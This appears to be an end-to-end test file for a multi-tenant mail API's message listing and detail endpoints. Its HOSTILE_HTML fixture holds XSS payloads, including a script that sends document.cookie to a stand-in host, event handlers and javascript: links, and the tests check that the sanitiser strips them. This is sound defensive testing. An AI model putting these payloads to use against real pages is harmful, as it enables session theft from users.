import { ApiProcess } from '../../../test/support/api-process.js';
import { bearerFor } from '../../../test/support/auth.js';
import { insertMailbox } from '../../../test/support/messages-fixture.js';
import type { FixtureMessage, Mailbox } from '../../../test/support/messages-fixture.js';

const TENANT_A = 'messages-e2e-a';
const TENANT_B = 'messages-e2e-b';
const TENANT_C = 'messages-e2e-c';
const me = { name: 'Me', address: 'me@a.test' };

const HOSTILE_HTML = [
  '<p>Hello <b>there</b></p>',
  '<script>fetch("https://evil.test/steal?c=" + document.cookie)</script>',
  '<img src="https://tracker.test/open.gif?id=42" alt="pixel" onerror="alert(1)">',
  '<img src="cid:logo@fixture.test" alt="logo">',
  '<a href="javascript:alert(document.domain)">click</a>',
  '<a href="https://example.com/offer" onclick="steal()">offer</a>',
  '<div style="background-image: url(https://tracker.test/bg.png); color: blue">styled</div>',
  '<iframe src="https://evil.test/frame"></iframe>',
  '<svg><script>alert(2)</script></svg>',
].join('');

describe('messages: GET /api/messages and GET /api/messages/:id', () => {
  let api: ApiProcess;
  let a: Mailbox;
  let b: Mailbox;
  let newsletters: Mailbox;
  const names = new Map<string, string>();

  beforeAll(async () => {
    api = await ApiProcess.start({ TRUSTED_AUTHSERV_IDS: 'mx.a.test' });
    // 7 INBOX messages, two of them in the same second to exercise the keyset tie-break on id.
    const inbox: FixtureMessage[] = Array.from({ length: 7 }, (_, index) => ({
      key: `in${index + 1}`,
      folder: 'INBOX',
      receivedAt: index === 6 ? '2024-05-05T10:00:00Z' : `2024-05-0${index + 1}T10:00:00Z`,
      subject: `Inbox ${index + 1}`,
      from: { name: `Sender ${index + 1}`, address: `s${index + 1}@example.com` },
      to: [me],
      flags: index % 2 === 0 ? ['\\Seen'] : index === 3 ? ['\\Flagged'] : [],
      textBody: `body ${index + 1}`,
    }));
    a = await insertMailbox(
      TENANT_A,
      'me@a.test',
      [{ path: 'INBOX', role: 'inbox' }, { path: 'Sent', role: 'sent' }, { path: 'Projects/Alpha' }],
      [
        ...inbox,
        {
          key: 'html',
          folder: 'Projects/Alpha',
          receivedAt: '2024-06-01T08:30:00Z',
          sentAt: '2024-06-01T08:29:00Z',
          subject: 'Rich mail',
          from: { name: 'Alice', address: 'alice@example.com' },
          to: [me],
          cc: [{ name: 'Carol', address: 'carol@example.net' }],
          bcc: [{ name: '', address: 'hidden@a.test' }],
          replyTo: [{ name: 'Alice (replies)', address: 'replies@example.com' }],
          flags: ['\\Seen', '\\Flagged'],
          textBody: 'Hello there',
          htmlBody: HOSTILE_HTML,
          headers: { 'x-mailer': 'Fixture 1.0', received: ['from a', 'from b'] },
          messageId: '<rich@fixture.test>',
          inReplyTo: '<earlier@fixture.test>',
          references: ['<root@fixture.test>', '<earlier@fixture.test>'],
          attachments: [
            {
              partId: '2',
              filename: 'logo.png',
              contentType: 'image/png',
              size: 1234,
              contentId: 'logo@fixture.test',
              inline: true,
            },
            { partId: '3', filename: 'report.pdf', contentType: 'application/pdf', size: 98765 },
          ],
        },
        {
          key: 'sent1',
          folder: 'Sent',
          receivedAt: '2024-05-03T12:00:00Z',
          subject: 'Sent one',
          from: me,
          to: [{ name: 'Bob', address: 'bob@example.org' }],
          flags: ['\\Seen'],
        },
      ],
    );
    b = await insertMailbox(
      TENANT_B,
      'b@b.test',
      [{ path: 'INBOX', role: 'inbox' }],
      [
        {
          key: 'b1',
          folder: 'INBOX',
          receivedAt: '2024-05-04T10:00:00Z',
          subject: 'Tenant B only',
          from: { name: 'X', address: 'x@b.test' },
          flags: [],
        },
      ],
    );
    newsletters = await insertMailbox(
      TENANT_C,
      'c@c.test',
      [{ path: 'INBOX', role: 'inbox' }],
      [
        {
          key: 'newsletter',
          folder: 'INBOX',
          receivedAt: '2024-06-02T08:30:00Z',
          subject: 'Weekly news',
          from: { name: 'News', address: 'news@lists.example.com' },
          to: [me],
          headers: {
            'list-unsubscribe':
              '<mailto:leave@lists.example.com?subject=unsubscribe>, <https://lists.example.com/u?id=7>',
            'list-unsubscribe-post': 'List-Unsubscribe=One-Click',
            // The server's own verdict on top; below it one the sender wrote to look trustworthy.
            'authentication-results': [
              'mx.a.test; spf=softfail (not permitted) smtp.mailfrom=lists.example.com; dkim=pass header.d=lists.example.com; dmarc=fail header.from=lists.example.com',
              'lists.example.com; spf=pass; dkim=pass; dmarc=pass',
            ],
          },
        },
      ],
    );
    for (const [key, id] of [...Object.entries(a.messageIds), ...Object.entries(b.messageIds)]) names.set(id, key);
  }, 60_000);

  afterAll(async () => {
    await api.stop();
  });

  const get = (path: string, query: Record<string, string> = {}, tenant: string | null = TENANT_A) =>
    api.inject({
      url: `${path}${Object.keys(query).length ? `?${new URLSearchParams(query).toString()}` : ''}`,
      headers: tenant ? { authorization: bearerFor(tenant) } : {},
    });
  const keys = async (query: Record<string, string>, tenant = TENANT_A): Promise<string[]> => {
    const response = await get('/api/messages', query, tenant);
    expect(response.statusCode).toBe(200);
    return response.json<{ items: { id: string }[] }>().items.map((item) => names.get(item.id) ?? item.id);
  };

  describe('list', () => {
    it('lists a folder by path or role, newest first, ties broken by id', async () => {
      const byPath = await keys({ accountId: a.accountId, folder: 'INBOX' });
      expect(byPath[0]).toBe('in6');
      expect(byPath.slice(1, 3).sort()).toEqual(['in5', 'in7']);
      expect(byPath.slice(3)).toEqual(['in4', 'in3', 'in2', 'in1']);
      expect(await keys({ accountId: a.accountId, folder: 'inbox' })).toEqual(byPath);
      expect(await keys({ folder: a.folderIds.INBOX })).toEqual(byPath);
      expect(await keys({ accountId: a.accountId, folder: 'sent' })).toEqual(['sent1']);
      expect(await keys({ accountId: a.accountId, folder: 'Projects/Alpha' })).toEqual(['html']);
    });

    it('lists the whole account, and every account of the tenant, newest first', async () => {
      const all = await keys({ accountId: a.accountId, limit: '200' });
      expect(all).toHaveLength(9);
      expect(all[0]).toBe('html');
      expect(await keys({ limit: '200' })).toEqual(all);
    });

    it('filters unread and flagged', async () => {
      expect((await keys({ accountId: a.accountId, folder: 'INBOX', unread: 'true' })).sort()).toEqual([
        'in2',
        'in4',
        'in6',
      ]);
      expect((await keys({ accountId: a.accountId, folder: 'INBOX', unread: 'false' })).sort()).toEqual([
        'in1',
        'in3',
        'in5',
        'in7',
      ]);
      expect(await keys({ accountId: a.accountId, flagged: 'true' })).toEqual(['html', 'in4']);
      expect(await keys({ accountId: a.accountId, folder: 'INBOX', unread: 'true', flagged: 'false' })).toEqual([
        'in6',
        'in2',
      ]);
    });

    it('walks pages with opaque cursors without gaps or repeats, including same-second messages', async () => {
      const seen: string[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const response = await get('/api/messages', {
          accountId: a.accountId,
          folder: 'INBOX',
          limit: '2',
          ...(cursor ? { cursor } : {}),
        });
        expect(response.statusCode).toBe(200);
        const page = response.json<{ items: { id: string }[]; nextCursor: string | null }>();
        seen.push(...page.items.map((item) => names.get(item.id) ?? ''));
        cursor = page.nextCursor;
        pages += 1;
      } while (cursor);
      expect(pages).toBe(4);
      expect(seen).toEqual(await keys({ accountId: a.accountId, folder: 'INBOX' }));
    });

    it('answers summaries in the documented shape', async () => {
      const response = await get('/api/messages', { accountId: a.accountId, folder: 'Projects/Alpha' });
      expect(response.json()).toEqual({
        items: [
          {
            id: a.messageIds.html,
            accountId: a.accountId,
            folder: 'Projects/Alpha',
            subject: 'Rich mail',
            from: { name: 'Alice', address: 'alice@example.com' },
            to: [me],
            cc: [{ name: 'Carol', address: 'carol@example.net' }],
            date: '2024-06-01T08:30:00.000Z',
            flags: ['\\Seen', '\\Flagged'],
            snippet: 'Hello there',
            hasAttachments: true,
            threadId: null,
            messageId: '<rich@fixture.test>',
          },
        ],
        nextCursor: null,
      });
    });

    it.each([
      ['a bad cursor', { cursor: 'garbage' }],
      ['a limit of 0', { limit: '0' }],
      ['a limit of 201', { limit: '201' }],
      ['a malformed accountId', { accountId: '123' }],
      ['a non-boolean unread', { unread: 'maybe' }],
      ['an unknown parameter', { sort: 'asc' }],
    ])('refuses %s with 400', async (_label, query) => {
      expect((await get('/api/messages', query)).statusCode).toBe(400);
    });

    it('answers 404 for an unknown folder or account, and for another tenant’s', async () => {
      expect((await get('/api/messages', { accountId: a.accountId, folder: 'Nope' })).statusCode).toBe(404);
      expect((await get('/api/messages', { accountId: b.accountId })).statusCode).toBe(404);
      expect((await get('/api/messages', { folder: b.folderIds.INBOX })).statusCode).toBe(404);
      expect((await get('/api/messages', { accountId: '00000000-0000-4000-8000-000000000000' })).statusCode).toBe(404);
    });

    it('keeps tenants apart', async () => {
      expect(await keys({ limit: '200' }, TENANT_B)).toEqual(['b1']);
      expect(await keys({ limit: '200' })).not.toContain('b1');
    });
  });

  describe('one message', () => {
    it('returns headers, addresses, text, sanitised HTML and attachments', async () => {
      const response = await get(`/api/messages/${a.messageIds.html}`);
      expect(response.statusCode).toBe(200);
      const message = response.json<
        Record<string, unknown> & { html: string; attachments: Record<string, unknown>[] }
      >();
      expect(message).toMatchObject({
        id: a.messageIds.html,
        folder: 'Projects/Alpha',
        subject: 'Rich mail',
        from: { name: 'Alice', address: 'alice@example.com' },
        bcc: [{ name: '', address: 'hidden@a.test' }],
        replyTo: [{ name: 'Alice (replies)', address: 'replies@example.com' }],
        date: '2024-06-01T08:30:00.000Z',
        sentAt: '2024-06-01T08:29:00.000Z',
        inReplyTo: '<earlier@fixture.test>',
        references: ['<root@fixture.test>', '<earlier@fixture.test>'],
        text: 'Hello there',
        headers: { 'x-mailer': 'Fixture 1.0', received: ['from a', 'from b'] },
      });
      expect(message.attachments).toEqual([
        {
          id: a.attachmentIds['html/2'],
          filename: 'logo.png',
          contentType: 'image/png',
          size: 1234,
          contentId: 'logo@fixture.test',
          inline: true,
        },
        {
          id: a.attachmentIds['html/3'],
          filename: 'report.pdf',
          contentType: 'application/pdf',
          size: 98765,
          contentId: null,
          inline: false,
        },
      ]);
    });

    it('says how to unsubscribe, and what the trusted receiving server found about the sender', async () => {
      const message = (await get(`/api/messages/${newsletters.messageIds.newsletter}`, {}, TENANT_C)).json();
      expect(message).toMatchObject({
        listUnsubscribe: {
          mailto: 'mailto:leave@lists.example.com?subject=unsubscribe',
          url: 'https://lists.example.com/u?id=7',
          oneClick: true,
        },
        authentication: { authservId: 'mx.a.test', spf: 'softfail', dkim: 'pass', dmarc: 'fail' },
      });
      expect((await get(`/api/messages/${a.messageIds.html}`)).json()).toMatchObject({
        listUnsubscribe: null,
        authentication: null,
      });
    });

    it('strips scripts, event handlers, javascript: links and remote resources, keeping cid: images', async () => {
      const { html } = (await get(`/api/messages/${a.messageIds.html}`)).json<{ html: string }>();
      expect(html).toContain('<p>Hello <b>there</b></p>');
      expect(html).not.toMatch(/<script|<iframe|<svg/i);
      expect(html).not.toMatch(/\bon[a-z]+\s*=/i);
      expect(html).not.toMatch(/javascript:/i);
      expect(html).not.toContain('tracker.test');
      expect(html).not.toContain('evil.test');
      expect(html).not.toMatch(/url\(/i);
      expect(html).toContain('src="cid:logo@fixture.test"');
      expect(html).toContain('href="https://example.com/offer"');
      expect(html).toContain('color:blue');
    });

    it('answers 404 for a missing message and for another tenant’s, 400 for a malformed id', async () => {
      expect((await get(`/api/messages/${b.messageIds.b1}`)).statusCode).toBe(404);
      expect((await get('/api/messages/00000000-0000-4000-8000-000000000000')).statusCode).toBe(404);
      expect((await get('/api/messages/not-a-uuid')).statusCode).toBe(400);
      expect((await get(`/api/messages/${b.messageIds.b1}`, {}, TENANT_B)).statusCode).toBe(200);
    });

    it('requires a bearer token', async () => {
      expect((await get(`/api/messages/${a.messageIds.html}`, {}, null)).statusCode).toBe(401);
      expect((await get('/api/messages', {}, null)).statusCode).toBe(401);
    });
  });
});
